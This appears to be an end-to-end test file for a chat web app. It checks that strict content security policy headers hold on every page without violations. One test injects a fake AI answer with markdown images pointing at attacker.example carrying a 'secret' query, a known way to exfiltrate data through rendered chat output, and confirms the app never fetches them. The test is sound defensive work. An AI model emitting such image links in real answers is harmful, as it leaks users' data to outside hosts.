import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { routes } from '../../src/lib/routes';
import { type Browser, openBrowser } from './browser';
import { chatPage } from './fixtures/chat-page';
import { signUp } from './session';

let browser: Browser | undefined;
afterEach(async () => {
  await browser?.close();
  browser = undefined;
});

type Theme = 'light' | 'dark';

/** Collects every CSP violation of every document the page loads, on `window.__csp`. */
async function watchViolations(target: Browser, theme: Theme) {
  await target.context.addCookies([{ name: 'theme', value: theme, url: target.url('/') }]);
  await target.context.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(
        `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`,
      );
    });
  });
}

const violationsOn = (page: Page) =>
  page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? ['no listener']);

const cspConsoleErrors = (target: Browser) =>
  target.errors.filter((error) => /content security policy/i.test(error));

/** Opens a page, waits until it has settled, and returns its violations and CSP header. */
async function visit(target: Browser, path: string) {
  const response = await target.page.goto(target.url(path), { waitUntil: 'networkidle' });
  const policy = (await response?.allHeaders())?.['content-security-policy'] ?? '';
  return { policy, violations: await violationsOn(target.page) };
}

const pathsOf = (access: (string | undefined)[]) =>
  routes
    .filter((route) => access.includes(route.access))
    .map((route) => route.path.replace(/\/:slug\?$/, ''));

// The not-found page too: it is rendered by Waku like any page.
const signedOutPaths = [...pathsOf(['open', 'guest']), '/no-such-page'];
const signedInPaths = pathsOf([undefined, 'required']);

describe('the strict content security policy in Chromium', () => {
  for (const theme of ['light', 'dark'] as const) {
    it(`loads every open and guest page signed out in the ${theme} theme without a violation`, async () => {
      browser = await openBrowser({ colorScheme: theme });
      await watchViolations(browser, theme);
      for (const path of signedOutPaths) {
        for (const locale of ['ru', 'en']) {
          const { policy, violations } = await visit(browser, `/${locale}${path}`);
          expect(policy, path).toMatch(/script-src 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/);
          expect(policy, path).toContain("object-src 'none'");
          expect(policy, path).toContain("base-uri 'none'");
          expect(policy, path).toContain("img-src 'self' data: blob:");
          expect(violations, `${locale}${path}`).toEqual([]);
        }
      }
      expect(await browser.page.getAttribute('html', 'data-theme')).toBe(theme);
      expect(cspConsoleErrors(browser)).toEqual([]);
    }, 180_000);

    it(`loads every protected page signed in in the ${theme} theme without a violation`, async () => {
      browser = await openBrowser({ colorScheme: theme });
      await watchViolations(browser, theme);
      await signUp(browser, { locale: 'en' });
      expect(await violationsOn(browser.page)).toEqual([]);
      for (const path of signedInPaths) {
        const { policy, violations } = await visit(browser, `/en${path}`);
        expect(policy, path).toMatch(/script-src 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/);
        expect(new URL(browser.page.url()).pathname, path).toBe(`/en${path}`);
        expect(violations, path).toEqual([]);
      }
      expect(await browser.page.getAttribute('html', 'data-theme')).toBe(theme);
      expect(cspConsoleErrors(browser)).toEqual([]);
    }, 180_000);
  }

  it('shows a remote image of an answer as a link naming its host and never requests it', async () => {
    browser = await openBrowser();
    await watchViolations(browser, 'light');
    const requested: string[] = [];
    browser.context.on('request', (request) => requested.push(request.url()));
    await signUp(browser, { locale: 'en' });
    const chat = chatPage(browser);
    await chat.open('/en/chat');
    await chat.chooseModel('gpt:gpt-mini', 'gpt:gpt');
    const answer =
      'Look: ![x](https://attacker.example/?q=secret) and ![y](//attacker.example/p.png)';
    await chat.send(`Describe the picture fake:text=${Buffer.from(answer).toString('hex')}`);
    await chat.waitForAnswer();

    const link = chat.lastAnswer().locator('[data-testid="remote-image-link"]').first();
    await expect.poll(() => link.textContent()).toContain('attacker.example');
    expect(await link.getAttribute('href')).toBe('https://attacker.example/?q=secret');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await chat.lastAnswer().locator('img').count()).toBe(0);

    // The saved answer, rendered on the server this time.
    await browser.page.reload({ waitUntil: 'networkidle' });
    await browser.page.waitForSelector('[data-testid="remote-image-link"]');
    expect(await browser.page.locator('[data-testid="message-assistant"] img').count()).toBe(0);

    expect(requested.filter((url) => url.includes('attacker.example'))).toEqual([]);
    expect(await violationsOn(browser.page)).toEqual([]);
    expect(cspConsoleErrors(browser)).toEqual([]);
  }, 120_000);
});
